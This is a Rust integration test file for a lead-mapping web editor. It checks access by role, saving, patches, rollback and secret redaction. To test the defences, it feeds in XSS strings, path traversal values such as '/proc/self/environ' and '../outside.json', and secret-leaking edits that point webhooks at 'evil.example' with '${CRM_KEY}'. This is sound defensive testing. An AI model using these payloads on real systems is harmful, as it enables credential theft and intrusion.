//! Mappings in a browser: what is shown, what an edit may and may not, and a new source from its address to its first lead.

use std::collections::BTreeMap;
use std::sync::Arc;

use leadfold::access::Role;
use leadfold::app::Follow;
use leadfold::sandbox::Faults;
use serde_json::{Value, json};

use super::{Browser, TOKEN, token_of};
use crate::rig::{Account, IMPATIENT, MAPPING, Rig, event, now_millis, until};

/// A leadfold that asks who one is, with a workspace that was changed before it started.
async fn rig(prepare: impl FnOnce(&mut Rig)) -> Rig {
    let mut rig = Rig::prepare(Faults::default(), IMPATIENT, MAPPING).await;
    rig.token = Some(TOKEN);
    prepare(&mut rig);
    rig.boot().await;
    rig
}

/// The field of an editor's page.
fn field(page: &str, name: &str) -> String {
    let (_, rest) = page.split_once(&format!("name=\"{name}\" value=\"")).unwrap();
    rest.split('"').next().unwrap().to_owned()
}

/// The text of an editor's page.
fn text(page: &str) -> String {
    let (_, rest) = page.split_once("<textarea").unwrap();
    let (_, rest) = rest.split_once(">\n").unwrap();
    let text = rest.split_once("</textarea>").unwrap().0;
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&")
}

/// An open editor.
struct Editor<'a> {
    browser: &'a Browser,
    file: &'static str,
    of: String,
    text: String,
}

impl<'a> Editor<'a> {
    async fn open(browser: &'a Browser, file: &'static str) -> Self {
        let page = browser.get(&format!("/mappings/{file}/edit")).await;
        page.is(200);
        Self { browser, file, of: field(&page.text, "of"), text: text(&page.text) }
    }

    /// Presses a button with this text; lines end as browsers end them.
    async fn press(&self, action: &str, text: &str) -> super::Page {
        let text = text.replace('\n', "\r\n");
        let fields = [("of", self.of.as_str()), ("text", &text), ("action", action), ("last", "100")];
        self.browser.post(&format!("/mappings/{}/edit", self.file), &fields).await
    }
}

/// What is active, by the hash of its texts.
async fn is_active(rig: &Rig, files: &BTreeMap<String, String>) -> bool {
    let files = leadfold::map::Files(files.clone());
    rig.app().store.active_hash().await.unwrap() == Some(files.hash())
        && rig.app().version() == Some(files.hash())
}

fn on_disk(rig: &Rig, file: &str) -> String {
    std::fs::read_to_string(rig.workspace().join(file)).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn each_sees_what_their_role_may() {
    let rig =
        rig(|rig| rig.edit("sendpulse.yaml", "- name: all", "- name: \"<script>alert(1)</script>\"")).await;
    let hostile = event(
        "x",
        "telegram",
        json!({ "phone": "0671234567", "name": "<script>alert(2)</script>" }),
        now_millis(),
    );
    assert_eq!(rig.post(&hostile).await, 200);
    rig.settle().await;

    for role in Role::GIVEN {
        let browser = Browser::of(&rig, role).await;
        let list = browser.get("/mappings").await;
        list.is(200).says("sendpulse.yaml").says("workspace.yaml").says("<h1>Mappings</h1>");
        assert_eq!(list.text.contains("/mappings/new"), role == Role::Admin, "{role}");
        let file = browser.get("/mappings/sendpulse.yaml").await;
        file.is(200).says("id=\"L3\"").says("&lt;script&gt;alert(1)").says_nothing_of("<script>alert");
        file.says_nothing_of("token: demo").says("••••••");
        assert_eq!(file.text.contains("/edit\""), role >= Role::Operator, "{role}");
        let edit = browser.get("/mappings/sendpulse.yaml/edit").await;
        edit.is(if role >= Role::Operator { 200 } else { 403 }).says_nothing_of("<script>alert");
        assert_eq!(edit.text.contains("value=\"save\""), role == Role::Admin, "{role}");
        browser.get("/mappings/new").await.is(if role == Role::Admin { 200 } else { 403 });
        browser.get("/mappings/versions").await.is(200);
        for path in
            ["/mappings/none.yaml", "/mappings/versions/none", "/mappings/..%2Fx", "/mappings/none.yaml/edit"]
        {
            let status = if path.ends_with("/edit") && role == Role::Viewer { 403 } else { 404 };
            browser.get(path).await.is(status);
        }
        browser.speak("uk");
        browser.get("/mappings").await.says("Мапінги").says("Пресет");
        browser.get("/mappings/sendpulse.yaml").await.says("Гілки");
    }
    let operator = Browser::of(&rig, Role::Operator).await;
    let editor = Editor::open(&operator, "sendpulse.yaml").await;
    let edited = editor.text.replace("stage: New", "stage: Hot");
    let rehearsed = editor.press("rehearse", &edited).await;
    rehearsed
        .is(200)
        .says("1\u{a0}lead would change")
        .says("deal.stage")
        .says("<td data-name=\"With this edit\">Hot</td>");
    rehearsed.says_nothing_of("<script>alert");
    editor
        .press("check", &edited.replace("owners: sales", "owners: salse"))
        .await
        .says("did you mean `sales`?")
        .says("<noscript>");
    editor.press("save", &edited).await.is(200).says("takes the role admin").says("stage: Hot");
    let viewer = Browser::of(&rig, Role::Viewer).await;
    viewer.get("/mappings").await;
    viewer
        .post("/mappings/sendpulse.yaml/edit", &[("of", &editor.of), ("text", &edited), ("action", "check")])
        .await
        .is(403);
    viewer.post("/mappings/sendpulse.yaml/check", &[("of", &editor.of), ("text", &edited)]).await.is(403);
    viewer.get("/mappings/names?source=sendpulse").await.is(403);
    assert_eq!(on_disk(&rig, "sendpulse.yaml"), rig.files.0["sendpulse.yaml"], "nothing was saved");
    rig.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_edit_is_written_into_the_folder_and_runs() {
    let mut rig = rig(|_| ()).await;
    let browser = Browser::of(&rig, Role::Admin).await;
    let editor = Editor::open(&browser, "sendpulse.yaml").await;
    let edited = editor.text.replace("stage: New", "stage: Hot");
    let wrong_key = [("of", editor.of.as_str()), ("text", &edited), ("action", "save"), ("key", "wrong")];
    browser.post("/mappings/sendpulse.yaml/edit", &wrong_key).await.is(403);
    assert_eq!(on_disk(&rig, "sendpulse.yaml"), rig.files.0["sendpulse.yaml"]);

    let broken = edited.replace("to: [crm]", "to: [crn]");
    editor
        .press("save", &broken)
        .await
        .is(200)
        .says("did you mean `crm`?")
        .says("href=\"#L6\"")
        .says("to: [crn]");
    let answer = editor.press("save", &edited).await;
    assert_eq!((answer.status, answer.location()), (303, "/mappings/sendpulse.yaml?done=saved"));
    let written = rig.files.0["sendpulse.yaml"].replace("stage: New", "stage: Hot");
    assert_eq!(
        on_disk(&rig, "sendpulse.yaml"),
        written,
        "the token that was hidden is what it was, and so are line ends"
    );
    rig.files.0.insert("sendpulse.yaml".to_owned(), written.clone());
    until("it runs", async || is_active(&rig, &rig.files.0).await).await;
    browser.get(answer.location()).await.says("Saved").says("stage: Hot");

    // Whoever began before that is told, and keeps the text.
    let late = editor.press("save", &edited.replace("stage: Hot", "stage: Cold")).await;
    late.is(200).says("somebody else saved meanwhile").says("stage: Cold");
    // So is whoever does not see what somebody types in the folder just now.
    let editor = Editor::open(&browser, "sendpulse.yaml").await;
    std::fs::write(rig.workspace().join("workspace.yaml"), "destinations: [").unwrap();
    let meanwhile = editor.press("save", &editor.text.replace("stage: Hot", "stage: Cold")).await;
    meanwhile.is(200).says("workspace.yaml in the folder of the server is not what this edit began with");
    assert_eq!(on_disk(&rig, "sendpulse.yaml"), written);
    rig.save();

    // And back again.
    let versions = browser.get("/mappings/versions").await;
    let first =
        versions.text.split("/mappings/versions/").nth(2).unwrap().split('"').next().unwrap().to_owned();
    let path = format!("/mappings/versions/{first}");
    let page = browser.get(&path).await;
    page.says("Go back").says("<ins>").says_nothing_of("token: demo");
    let instead = field(&page.text, "instead_of");
    browser.post(&path, &[("instead_of", &first)]).await.is(422).says("somebody else saved meanwhile");
    browser.post_and_follow(&path, &[("instead_of", &instead)]).await.says("active again");
    assert_eq!(on_disk(&rig, "sendpulse.yaml"), written.replace("stage: Hot", "stage: New"));

    let log = rig.app().store.actions(None, None, 10).await.unwrap();
    let told: Vec<(&str, bool)> = log
        .iter()
        .map(|action| (action.operation.as_str(), action.outcome.as_deref() == Some("done")))
        .collect();
    assert_eq!(told[..2], [("/api/versions/back", true), ("/api/versions/back", false)], "{told:?}");
    assert!(
        told.contains(&("/api/mappings/save", true)) && told.iter().all(|(path, _)| !path.ends_with("check")),
        "{told:?}"
    );
    assert!(!format!("{log:?}").contains("stage: Hot"), "the log names versions, and holds no texts");
    rig.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn where_the_database_is_followed_an_edit_is_applied() {
    let rig = rig(|rig| rig.follow = Follow::Database).await;
    let browser = Browser::of(&rig, Role::Admin).await;
    let editor = Editor::open(&browser, "sendpulse.yaml").await;
    editor.press("save", &editor.text.replace("stage: New", "stage: Hot")).await.is(303);
    let mut files = rig.files.0.clone();
    files.insert("sendpulse.yaml".to_owned(), files["sendpulse.yaml"].replace("stage: New", "stage: Hot"));
    until("it runs", async || is_active(&rig, &files).await).await;
    assert_eq!(
        on_disk(&rig, "sendpulse.yaml"),
        rig.files.0["sendpulse.yaml"],
        "the folder is not what runs here"
    );
    editor.press("save", &editor.text).await.is(200).says("somebody else saved meanwhile");
    rig.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_cannot_be_saved_is_taken_along_as_a_patch() {
    let rig = rig(|rig| rig.read_only_workspace = true).await;
    let browser = Browser::of(&rig, Role::Admin).await;
    browser.get("/mappings").await.says("--read-only-workspace");
    let editor = Editor::open(&browser, "sendpulse.yaml").await;
    browser
        .get("/mappings/sendpulse.yaml/edit")
        .await
        .says_nothing_of("value=\"save\"")
        .says("value=\"patch\"");
    let edited = editor.text.replace("stage: New", "stage: Hot");
    editor.press("save", &edited).await.is(200).says("nothing is changed");
    editor.press("patch", &editor.text).await.is(200).says("Nothing is changed yet");
    let patch = editor.press("patch", &edited).await;
    assert_eq!(patch.header("content-disposition"), "attachment; filename=\"sendpulse.patch\"");
    patch
        .says("--- a/sendpulse.yaml\n+++ b/sendpulse.yaml\n")
        .says("stage: Hot")
        .says_nothing_of("token: demo");
    assert_eq!(on_disk(&rig, "sendpulse.yaml"), rig.files.0["sendpulse.yaml"]);
    let apply = |text: &str| {
        let file = rig.folder.join("a.patch");
        std::fs::write(&file, text).unwrap();
        let mut git = std::process::Command::new("git");
        git.args(["apply", "--unsafe-paths"])
            .arg(file)
            .current_dir(rig.workspace())
            .env("GIT_CEILING_DIRECTORIES", &rig.folder);
        git.status().unwrap().success()
    };
    assert!(apply(&patch.text));
    assert_eq!(
        on_disk(&rig, "sendpulse.yaml"),
        rig.files.0["sendpulse.yaml"].replace("stage: New", "stage: Hot")
    );
    rig.end().await;
}

/// What nobody may read in a browser.
const SECRET: &str = "hunter2-hunter2";
/// One that somebody wrote out.
const WRITTEN_OUT: &str = "written-out-7781";

#[tokio::test(flavor = "multi_thread")]
async fn no_edit_shows_a_secret() {
    let rig = rig(|rig| {
        rig.environment = Arc::new(|name| (name == "CRM_KEY").then(|| SECRET.to_owned()));
        rig.edit("sendpulse.yaml", "token: demo", &format!("token: {WRITTEN_OUT}"));
        rig.edit("workspace.yaml", "token: demo", "token: \"${CRM_KEY}\"");
    })
    .await;
    assert_eq!(
        rig.post_to(
            &format!("/in/sendpulse/{WRITTEN_OUT}"),
            event("a", "viber", json!({}), now_millis()).to_string()
        )
        .await
        .0,
        200
    );
    rig.settle().await;
    std::fs::write(rig.workspace().join("sample.json"), "[]").unwrap();
    std::fs::write(rig.folder.join("outside.json"), SECRET).unwrap();
    let browser = Browser::of(&rig, Role::Admin).await;
    let mapping = Editor::open(&browser, "sendpulse.yaml").await;
    let workspace = Editor::open(&browser, "workspace.yaml").await;
    let test = |given: &str| {
        format!(
            "{}\ntests:\n  - {{ name: t, given: \"{given}\", expect: {{ name: x, title: y }} }}\n",
            mapping.text
        )
    };
    let in_mapping = [
        mapping.text.replace("stage: New", "stage: \"${CRM_KEY}\""),
        mapping.text.replace("{{ contact.name }}", "${CRM_KEY} {{ CRM_KEY }}"),
        mapping.text.replace("- name: all", "- name: \"${CRM_KEY}\""),
        mapping.text.replace("••••••", "${CRM_KEY}"),
        mapping.text.replace("token: \"••••••\"", "token: \"${CRM_KEY}\", secret: \"${CRM_KEY}\""),
        mapping.text.replace("preset: sendpulse", "preset: esputnik, secret: \"${CRM_KEY}\""),
        mapping.text.replace("preset: sendpulse", "preset: telegram, secret: \"ї${CRM_KEY}\""),
        mapping.text.replace("stage: New", "stage: \"••••••\""),
        mapping.text.replace("stage: New", "stage: [••••••"),
        mapping.text.replace("source:", "source: ••••••\nvars:"),
        test("/proc/self/environ"),
        test("../outside.json"),
        test("workspace.yaml"),
        test("sample.json"),
    ];
    for edited in &in_mapping {
        // One that is saved is what the next begins with.
        let mapping = Editor::open(&browser, "sendpulse.yaml").await;
        for action in ["check", "rehearse", "patch", "save"] {
            let page = mapping.press(action, edited).await;
            page.says_nothing_of(SECRET).says_nothing_of(WRITTEN_OUT).says_nothing_of("PATH=");
            assert!(matches!(page.status, 200 | 303), "{action} {edited}: {}", page.status);
            assert!(page.status == 200 || edited.contains("token: \"${CRM_KEY}\""), "{edited}");
        }
        let of = mapping.of.as_str();
        browser
            .post("/mappings/sendpulse.yaml/check", &[("of", of), ("text", edited)])
            .await
            .says_nothing_of(SECRET);
    }
    let url = rig.sandbox.url();
    for (from, to) in [
        (url.as_str(), "http://evil.example"),
        (url.as_str(), "${CRM_KEY}"),
        ("crm: sandbox", "crm: odoo, database: x, login: \"${CRM_KEY}\", api_key: \"${CRM_KEY}\""),
        ("concurrency: 48", "concurrency: \"${CRM_KEY}\""),
        ("owner_pools:", "alerts: { webhook: \"https://evil.example/${CRM_KEY}\" }\nowner_pools:"),
        (
            "owner_pools:",
            "  evil: { bot: webhook, hosts: [\"${CRM_KEY}\"], auth: { bearer: \"${CRM_KEY}\" } }\nowner_pools:",
        ),
        ("destinations:", "vars: { a: \"${CRM_KEY}\" }\ndestinations:"),
    ] {
        assert!(workspace.text.contains(from), "{from}");
        let workspace = Editor::open(&browser, "workspace.yaml").await;
        let edited = workspace.text.replacen(from, to, 1);
        for action in ["check", "rehearse", "patch", "save"] {
            workspace.press(action, &edited).await.is(200).says_nothing_of(SECRET);
        }
    }
    assert_eq!(on_disk(&rig, "workspace.yaml"), rig.files.0["workspace.yaml"]);
    // What decides nothing of the kind is an edit like others.
    let editor = Editor::open(&browser, "workspace.yaml").await;
    editor.press("save", &editor.text.replace("[anna, borys, dana]", "[anna]")).await.is(303);
    for path in [
        "/mappings/workspace.yaml",
        "/mappings/sendpulse.yaml",
        "/mappings/versions",
        "/mappings/names?source=sendpulse",
    ] {
        browser.get(path).await.is(200).says_nothing_of(SECRET).says_nothing_of(WRITTEN_OUT);
    }
    rig.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_source_goes_from_its_address_to_its_first_lead() {
    let rig = rig(|_| ()).await;
    let browser = Browser::of(&rig, Role::Admin).await;
    browser.get("/mappings/new").await.says("value=\"json\"").says("value=\"sales\"");
    let chosen = |name| [("name", name), ("preset", "json"), ("to", "crm"), ("owners", "sales")];
    for (name, why) in
        [("sendpulse", "already"), ("../x", "may only have"), ("", "may only have"), ("workspace", "already")]
    {
        browser.post("/mappings/new", &chosen(name)).await.is(200).says(why);
    }
    let page = browser.post_and_follow("/mappings/new", &chosen("shop")).await;
    page.says("Waiting for the first delivery").says("data-poll=\"/mappings/new/shop/look\"");
    let address = page.text.split("/in/shop/").nth(1).unwrap().split('<').next().unwrap().to_owned();
    assert_eq!(address.len(), 43, "256 bits: {address}");
    let path = format!("/in/shop/{address}");
    let body = json!({ "client": { "full name": "<script>alert(1)</script>", "tel": "067 123 45 67" }, "form": "Callback" });
    until("the address answers", async || rig.post_to(&path, body.to_string()).await.0 == 200).await;
    until("it is seen", async || browser.get("/mappings/new/shop/look").await.text.contains("true")).await;
    let page = browser.get("/mappings/new/shop").await;
    page.says("data-value=\"client.tel\"").says_nothing_of("<script>alert");
    assert_eq!(
        field(
            &page.text.replace(" list=\"placeholders\" autocomplete=\"off\" spellcheck=\"false\"", ""),
            "phone"
        ),
        "client.tel"
    );
    assert!(rig.found("+380671234567").await.is_empty(), "nothing becomes of it yet");

    let page = browser
        .post(
            "/mappings/new/shop",
            &[("name", "client['full name']"), ("phone", "client.tel"), ("title", "form")],
        )
        .await;
    page.is(200).says("1\u{a0}lead would change").says("+380671234567").says("create contact, create deal");
    page.says_nothing_of("<script>alert").says_nothing_of(&address);
    let (of, text) = (field(&page.text, "of"), text(&page.text));
    browser
        .post("/mappings/shop.yaml/edit", &[("of", &of), ("text", &text), ("action", "save")])
        .await
        .is(303);
    assert!(on_disk(&rig, "shop.yaml").contains(&format!("token: \"{address}\"")), "the address stays");
    until("it is a lead", async || !rig.found("+380671234567").await.is_empty()).await;
    let contact = async || rig.contact().await["name"] == "<script>alert(1)</script>";
    until("it is in the CRM", contact).await;
    rig.settle().await;
    let page = browser.get("/mappings/new/shop").await;
    page.says("is on already").says_nothing_of(&address);
    browser.get("/mappings/new/none").await.is(404);
    rig.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_browser_can_the_api_can() {
    let rig = rig(|_| ()).await;
    let active = rig.app().store.active_hash().await.unwrap().unwrap();
    let text = rig.files.0["sendpulse.yaml"].replace("stage: New", "stage: Hot");
    let edit = json!({ "of": active, "files": { "sendpulse.yaml": text } });
    let tokens = [
        token_of(&rig, Role::Viewer).await,
        token_of(&rig, Role::Operator).await,
        token_of(&rig, Role::Admin).await,
    ];
    let ask = async |token: &str, path: &str, body: &Value| {
        let authorization = format!("Bearer {token}");
        rig.post_with(path, ("authorization", &authorization), body).await
    };
    for (path, body, role) in [
        ("/api/mappings", json!({ "file": "sendpulse.yaml" }), Role::Viewer),
        ("/api/mappings/arrived", json!({ "source": "sendpulse" }), Role::Viewer),
        ("/api/versions/list", json!({}), Role::Viewer),
        ("/api/versions/compare", json!({ "old": active, "new": active }), Role::Viewer),
        ("/api/mappings/names", json!({ "source": "sendpulse" }), Role::Operator),
        ("/api/mappings/check", json!({ "edit": edit }), Role::Operator),
        ("/api/mappings/rehearse", json!({ "edit": edit, "last": 10 }), Role::Operator),
        ("/api/mappings/patch", json!({ "edit": edit }), Role::Operator),
        ("/api/mappings/address", json!({ "source": "sendpulse" }), Role::Admin),
        (
            "/api/mappings/draft",
            json!({ "draft": { "name": "a", "preset": "json", "to": ["crm"] } }),
            Role::Admin,
        ),
        ("/api/versions/active", json!({}), Role::Admin),
        ("/api/mappings/save", json!({ "edit": edit }), Role::Admin),
        ("/api/versions/back", json!({ "to": active, "instead_of": active }), Role::Admin),
    ] {
        for (token, has) in tokens.iter().zip(Role::GIVEN) {
            let status = ask(token, path, &body).await;
            let expect: &[u16] = match (has >= role, path) {
                (false, _) => &[403],
                // The version that it would go back from is not the active one any more.
                (true, "/api/versions/back") => &[422],
                (true, _) => &[200],
            };
            assert!(expect.contains(&status), "{has} {path}: {status}");
        }
    }
    assert_eq!(on_disk(&rig, "sendpulse.yaml"), text);
    rig.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn names_are_those_of_the_account() {
    let mut rig = Rig::shipped().await;
    rig.boot().await;
    let browser = Browser::new(&rig);
    let editor = Editor::open(&browser, "sendpulse.yaml").await;
    let wrong = editor.text.replace("stage: Нова", "stage: Новісінька");
    let path = "/mappings/sendpulse.yaml/check";
    let typed = [("of", editor.of.as_str()), ("text", wrong.as_str())];
    browser.post(path, &typed).await.says("Nothing is wrong");
    let names: Value = serde_json::from_str(&browser.get("/mappings/names").await.text).unwrap();
    assert_eq!(names["catalogs"]["crm"]["pipelines"][0]["name"], "Основна", "{names}");
    browser.post(path, &typed).await.says("there is no stage `Новісінька`");
    editor.press("check", &editor.text).await.says("Nothing is wrong");
    rig.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn it_is_the_same_on_postgresql() {
    let Some(rig) = Rig::start_on(Account::SandboxOnPostgres, Faults::default(), IMPATIENT).await else {
        return;
    };
    assert_eq!(rig.post(&event("a", "viber", json!({ "phone": "0671234567" }), now_millis())).await, 200);
    rig.settle().await;
    let browser = Browser::new(&rig);
    browser.get("/mappings").await.is(200).says(">1</td>");
    let editor = Editor::open(&browser, "sendpulse.yaml").await;
    editor
        .press("rehearse", &editor.text.replace("stage: New", "stage: Hot"))
        .await
        .says("1\u{a0}lead would change");
    browser.get("/mappings/names?source=sendpulse").await.is(200).says("contact.variables.phone");
    rig.end().await;
}
